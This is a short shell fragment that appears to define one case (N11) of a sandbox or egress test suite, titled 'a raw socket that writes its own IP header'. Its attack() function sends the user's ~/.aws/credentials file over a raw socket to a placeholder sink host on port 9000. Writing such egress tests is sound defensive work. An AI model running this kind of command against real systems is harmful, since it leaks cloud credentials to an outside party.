# SPDX-License-Identifier: Apache-2.0
TITLE="a raw socket that writes its own IP header"
ROW="N11"
DEST="$SINK4*"
attack() { "$PROVOKE/datagram" raw "$HOME/.aws/credentials" "$SINK4" 9000; }
